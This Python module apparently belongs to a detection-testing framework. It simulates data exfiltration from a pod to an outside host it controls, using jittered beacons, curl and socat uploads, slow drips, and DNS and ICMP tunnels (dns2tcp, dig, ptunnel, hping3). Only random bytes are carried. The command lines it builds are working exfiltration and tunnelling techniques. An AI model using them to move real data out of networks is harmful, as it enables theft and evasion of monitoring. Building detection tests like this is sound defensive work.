"""From a pod to hosts outside: beacons, what is carried out at once or in drips, tunnels in DNS and in pings.

Owns: both ends of each, command lines and own programs. Refuses: to carry anything but random bytes.
"""

from __future__ import annotations

from attacks.base import RAW, TELLING, AttackSpec, Hosts, Path, Program, Scene, own, seed
from programs import require
from scenario import tool

LOW_PORT = ("net_bind_service",)
PORTS = {"http": 80, "https": 443, "tcp": 4444, "udp": 9_999, "dns": 53, "icmp": 0}
LISTEN = {"http": "--http", "https": "--tls", "tcp": "--tcp", "udp": "--udp", "dns": "--udp"}
DOMAIN = "t.cdn-sync.example"
TUNNEL, DROP = 7_000, 9_000
MOST_BYTES = 12_000_000


def far(scene: Scene, hosts: Hosts, way: str, port: int, answers: str, tasks: float = 0.0) -> Program:
    """The end outside."""
    return own(scene, "listen.py", LISTEN[way], port, "--answers", answers, "--tasks", tasks, "--seed", seed(scene),
               *hosts.far, caps=LOW_PORT, far=True, serves=True)


def talk(scene: Scene, way: str, to: str, count: int, *words: object, caps: tuple[str, ...] = ()) -> Program:
    """The end in the pod."""
    return own(scene, "talk.py", way, "--to", to, "--count", count, "--seed", seed(scene), *words, caps=caps)


def both(
    scene: Scene, hosts: Hosts, way: str, port: int, count: int, answers: str, tasks: float, *words: object
) -> list[Program]:
    """Both ends of what is said in one way; pings are answered by the kernel."""
    port = port or PORTS[way]
    if way == "icmp":
        return [talk(scene, way, f"{hosts.far[0]}:0", count, *words, caps=RAW)]
    client = talk(scene, way, f"{hosts.far[0]}:{port}", count, *words)
    return [far(scene, hosts, way, port, answers, tasks), client]


@tool("beacon", "talk")
def beacon_talk(
    scene: Scene, _: AttackSpec, hosts: Hosts, *, way: str, every_s: float, count: int, jitter: float = 0.0,
    up: str = "0", answers: str = "0-64", tasks: float = 0.0, keep: bool = False, port: int = 0,
) -> list[Program]:
    """Asks its master for work, evenly or with jitter; now and then there is some."""
    return both(scene, hosts, way, port, count, answers, tasks, "--every", every_s, "--jitter", jitter, "--up", up,
                *(("--keep",) if keep else ()))


@tool("beacon", "curl")
def beacon_curl(
    scene: Scene, _: AttackSpec, hosts: Hosts, *, a_minute: int, count: int, tls: bool = False, port: int = 0,
    answers: str = "20-300",
) -> list[Program]:
    """curl, so many times a minute, a connection each."""
    way = "https" if tls else "http"
    port = port or PORTS[way]
    return [far(scene, hosts, way, port, answers),
            Program(("curl", "-sk", *TELLING, "-o", "/dev/null", "--rate", f"{a_minute}/m", "-H", "Connection: close",
                     f"{way}://{hosts.far[0]}:{port}/news?n=[1-{count}]"))]


@tool("beacon", "dig")
def beacon_dig(
    scene: Scene, _: AttackSpec, hosts: Hosts, *, every_s: float, count: int, answers: str = "10-80"
) -> list[Program]:
    """dig for a text, again and again, a name of its own each time."""
    return [far(scene, hosts, "dns", 53, answers), dug(scene, hosts, every_s, count, 8)]


def dug(scene: Scene, hosts: Hosts, every_s: float, count: int, characters: int) -> Program:
    """A shell that digs for names drawn before; each is asked for once."""
    letters = "abcdefghijklmnopqrstuvwxyz234567"
    drawn = ["".join(scene.rng.choices(letters, k=characters)) for _ in range(count)]
    names = [".".join(text[at : at + 50] for at in range(0, len(text), 50)) for text in drawn]
    require(["dig"])
    path = scene.folder / f"dig-{seed(scene)}.sh"
    asks = f"dig +tries=1 +time=2 @{hosts.far[0]}"
    path.write_text("".join(f"{asks} {name}.{DOMAIN} TXT\nsleep {every_s}\n" for name in names))
    return Program(("sh", str(path)))


def blob(scene: Scene, size: int) -> Path:
    """Something worth taking: random bytes."""
    path = scene.folder / f"blob-{seed(scene)}"
    path.write_bytes(scene.rng.randbytes(min(size, MOST_BYTES)))
    return path


@tool("burst", "talk")
def burst_talk(scene: Scene, _: AttackSpec, hosts: Hosts, *, way: str, size: int, count: int = 1, every_s: float = 5.0,
               port: int = 0) -> list[Program]:
    """One message of some megabytes, or a few of them."""
    size = min(size, MOST_BYTES // count)
    return both(scene, hosts, way, port, count, "0-40", 0.0, "--every", every_s, "--up", size)


@tool("burst", "curl")
def burst_curl(
    scene: Scene, _: AttackSpec, hosts: Hosts, *, size: int, tls: bool = False, limit: str = "", port: int = 0
) -> list[Program]:
    """curl uploads a file; `limit` is bytes a second."""
    way = "https" if tls else "http"
    port = port or PORTS[way]
    slower = ("--limit-rate", limit) if limit else ()
    return [far(scene, hosts, way, port, "0-40"),
            Program(("curl", "-sk", *TELLING, "-o", "/dev/null", *slower, "-T", str(blob(scene, size)),
                     f"{way}://{hosts.far[0]}:{port}/in/"))]


@tool("burst", "socat")
def burst_socat(scene: Scene, _: AttackSpec, hosts: Hosts, *, size: int, port: int) -> list[Program]:
    """A file through a bare connection."""
    listening = Program(("socat", "-u", f"TCP-LISTEN:{port},fork,reuseaddr", "OPEN:/dev/null"), far=True, serves=True)
    to = f"TCP:{hosts.far[0]}:{port},retry=10,interval=0.3"
    return [listening, Program(("socat", "-d", "-d", "-u", f"OPEN:{blob(scene, size)}", to))]


@tool("drip", "talk")
def drip_talk(
    scene: Scene, _: AttackSpec, hosts: Hosts, *, way: str, every_s: float, count: int, up: str,
    jitter: float = 0.3, keep: bool = False, port: int = 0,
) -> list[Program]:
    """A piece now and a piece then."""
    return both(scene, hosts, way, port, count, "0-30", 0.0, "--every", every_s, "--jitter", jitter, "--up", up,
                *(("--keep",) if keep else ()))


@tool("drip", "curl")
def drip_curl(scene: Scene, _: AttackSpec, hosts: Hosts, *, a_minute: int, count: int, size: int, tls: bool = True,
              port: int = 0) -> list[Program]:
    """The same file's worth of bytes by curl, a connection each."""
    way = "https" if tls else "http"
    port = port or PORTS[way]
    return [far(scene, hosts, way, port, "0-30"),
            Program(("curl", "-sk", *TELLING, "-o", "/dev/null", "--rate", f"{a_minute}/m", "-H", "Connection: close",
                     "-H", "Expect:", "--data-binary", f"@{blob(scene, size)}",
                     f"{way}://{hosts.far[0]}:{port}/api/log?n=[1-{count}]"))]


@tool("dns-tunnel", "dns2tcp")
def dns_dns2tcp(scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, up: str, every_s: float, jitter: float = 0.3,
                record: str = "TXT") -> list[Program]:
    """TCP inside of questions; what is carried are messages at intervals."""
    path = scene.folder / f"dns2tcpd-{seed(scene)}.conf"
    path.write_text(f"listen = {hosts.far[0]}\nport = 53\ndomain = {DOMAIN}\nresources = drop:127.0.0.1:{DROP}\n")
    return [
        Program(("dns2tcpd", "-F", "-d", "1", "-f", str(path)), LOW_PORT, far=True, serves=True),
        inner(scene),
        Program(("dns2tcpc", "-z", DOMAIN, "-r", "drop", "-T", record, "-l", str(TUNNEL), hosts.far[0]), serves=True),
        through(scene, count, up, every_s, jitter),
    ]


def inner(scene: Scene) -> Program:
    """Who takes what comes out of a tunnel."""
    return own(scene, "listen.py", "--tcp", DROP, "--answers", "0-200", "--seed", seed(scene), "127.0.0.1",
               far=True, serves=True)


def through(scene: Scene, count: int, up: str, every_s: float, jitter: float) -> Program:
    """What goes into a tunnel."""
    return talk(scene, "tcp", f"127.0.0.1:{TUNNEL}", count, "--every", every_s, "--jitter", jitter, "--up", up,
                "--keep")


@tool("dns-tunnel", "talk")
def dns_talk(scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, up: str, every_s: float, jitter: float = 0.3,
             keep: bool = False, pause_s: float = 0.02, answers: str = "10-120") -> list[Program]:
    """Questions whose names are what is carried; one socket, or one a message."""
    return both(scene, hosts, "dns", 53, count, answers, 0.0, "--host", DOMAIN, "--every", every_s, "--jitter", jitter,
                "--up", up, "--pause", pause_s, *(("--keep",) if keep else ()))


@tool("dns-tunnel", "dig")
def dns_dig(
    scene: Scene, _: AttackSpec, hosts: Hosts, *, every_s: float, count: int, characters: int = 150
) -> list[Program]:
    """A shell script with dig: a socket a question."""
    return [far(scene, hosts, "dns", 53, "5-30"), dug(scene, hosts, every_s, count, characters)]


@tool("icmp-tunnel", "ptunnel")
def icmp_ptunnel(
    scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, up: str, every_s: float, jitter: float = 0.3
) -> list[Program]:
    """TCP inside of pings."""
    return [
        Program(("ptunnel",), RAW, far=True, serves=True),
        inner(scene),
        Program(("ptunnel", "-p", hosts.far[0], "-lp", str(TUNNEL), "-da", "127.0.0.1", "-dp", str(DROP)), RAW,
                serves=True),
        through(scene, count, up, every_s, jitter),
    ]


@tool("icmp-tunnel", "talk")
def icmp_talk(scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, up: str, every_s: float, jitter: float = 0.3,
              pause_s: float = 0.02) -> list[Program]:
    """Pings whose content is what is carried."""
    return both(scene, hosts, "icmp", 0, count, "0", 0.0, "--every", every_s, "--jitter", jitter, "--up", up,
                "--pause", pause_s)


@tool("icmp-tunnel", "hping3")
def icmp_hping3(scene: Scene, _: AttackSpec, hosts: Hosts, *, size: int, bytes_each: int, rate: int) -> list[Program]:
    """hping3 sends a file in pings."""
    pings = size // bytes_each
    return [Program(("hping3", "-q", "-n", "--icmp", "-d", str(bytes_each), "-E", str(blob(scene, size)),
                     "-c", str(pings), "-i", f"u{1_000_000 // rate}", hosts.far[0]), RAW)]


@tool("icmp-tunnel", "ping")
def icmp_ping(
    scene: Scene, _: AttackSpec, hosts: Hosts, *, count: int, every_s: float, bytes_each: int = 1_000
) -> list[Program]:
    """ping with a pattern, of a size that nobody needs."""
    pattern = f"{scene.rng.getrandbits(120):030x}"
    return [Program(("ping", "-q", "-n", "-i", str(every_s), "-s", str(bytes_each), "-p", pattern, "-c", str(count),
                     hosts.far[0]))]
